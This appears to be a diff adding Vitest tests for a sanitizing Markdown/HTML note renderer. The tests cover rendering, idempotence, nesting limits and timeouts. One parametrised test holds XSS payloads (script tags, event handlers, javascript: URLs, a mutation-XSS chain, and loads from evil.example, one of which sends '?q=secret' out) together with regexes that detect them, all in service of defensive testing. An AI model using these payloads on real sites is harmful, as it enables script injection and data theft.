@@ -1,0 +1,87 @@
+import { describe, expect, it } from 'vitest'
+import { htmlOfText, renderNote, showAsText } from './note-html.ts'
+import { createNoteRenderer } from './note-renderer.ts'
+
+const html = (source: string): string => renderNote(source, 'html').content
+const markdown = (source: string): string => renderNote(source, 'markdown').content
+
+describe('a rendered note', () => {
+  it('shows Markdown with tables, task lists and code', () => {
+    expect(markdown('# A\n\n**b** ~~c~~')).toBe('<h1>A</h1>\n<p><strong>b</strong> <del>c</del></p>\n')
+    expect(markdown('|a|b|\n|-|-:|\n|1|2|')).toContain('<td align="right">2</td>')
+    expect(markdown('- [x] done')).toContain('<input type="checkbox" disabled checked />')
+    expect(markdown('```js\na < b\n```')).toContain('<code class="language-js">a &lt; b')
+  })
+
+  it.each([
+    '<script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="java\nscript:alert(1)">x</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    '<svg onload=alert(1)></svg>',
+    '<iframe src="https://evil.example"></iframe>',
+    '<form action="https://evil.example"><input name=a type=text><button>go</button></form>',
+    '<style>*{background:url(https://evil.example)}</style>',
+    '<p style="background:url(https://evil.example)">x</p>',
+    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+    '<base href="https://evil.example">',
+    '<link rel=stylesheet href="https://evil.example">',
+    '<meta http-equiv=refresh content="0;url=https://evil.example">',
+    '<details ontoggle=alert(1) open>x</details>',
+    '[x](javascript:alert(1))',
+    '![x](https://evil.example/?q=secret)',
+    '![x](//evil.example/a.png)',
+    '![x](data:image/svg+xml;base64,PHN2Zz4=)',
+  ])('runs, submits and loads nothing: %s', (source) => {
+    for (const format of ['html', 'markdown'] as const) {
+      const { content } = renderNote(source, format)
+      const live = content.replaceAll(/(?:&[a-z]+;|data-remote-src="[^"]*"|alt="[^"]*")/g, '')
+      expect(live).not.toMatch(/<(?:script|iframe|svg|math|form|button|style|base|link|meta|object)\b/i)
+      expect(live).not.toMatch(/<[^>]*\s(?:on\w+|style|action|src|background)=/i)
+      expect(live).not.toMatch(/href="\s*(?:javascript|data|vbscript):/i)
+    }
+  })
+
+  it('keeps the address of an image from elsewhere aside, and images of its own', () => {
+    expect(markdown('![p](https://lind.example/p.png)')).toContain(
+      '<img alt="p" data-remote-src="https://lind.example/p.png" />',
+    )
+    expect(html('<img src="data:image/png;base64,AAAA">')).toContain('src="data:image/png;base64,AAAA"')
+  })
+
+  it('has its readable text beside it', () => {
+    expect(renderNote('# Prices\n\nPaper: **0.42**', 'markdown').text).toBe('Prices\n\nPaper: 0.42')
+  })
+
+  it('stays the same when its rendering is rendered again', () => {
+    const once = markdown('# A\n\n- [ ] b\n- ![c](https://x.example/c.png) [d](https://x.example)\n\n`e`')
+    expect(html(once)).toBe(once)
+  })
+
+  it('is shown as text when it is nested deeper than any parser goes', () => {
+    const source = '>'.repeat(50_000)
+    expect(markdown(source)).toBe(showAsText(source).content)
+  })
+
+  it('of plain text has its paragraphs, and nothing of it is markup', () => {
+    expect(htmlOfText('a\nb\n\n<c>')).toBe('<p>a<br>b</p>\n<p>&lt;c&gt;</p>')
+  })
+})
+
+describe('the renderer of notes', () => {
+  it('gives the same for long notes as for short ones, in any number at once', async () => {
+    const render = createNoteRenderer()
+    const sources = [5000, 9000, 20_000].map((length) => `# Title\n\n${'word '.repeat(length / 5)}`)
+    const rendered = await Promise.all(sources.map((source) => render(source, 'markdown')))
+    expect(rendered).toEqual(sources.map((source) => renderNote(source, 'markdown')))
+  })
+
+  it('shows as text what takes too long, and goes on with the next', async () => {
+    const render = createNoteRenderer({ deadlineMs: 300 })
+    const endless = '_a_'.repeat(100_000)
+    const [slow, next] = await Promise.all([render(endless, 'markdown'), render(endless, 'html')])
+    expect(slow).toEqual(showAsText(endless))
+    expect(next.text).toBe(endless)
+  })
+})
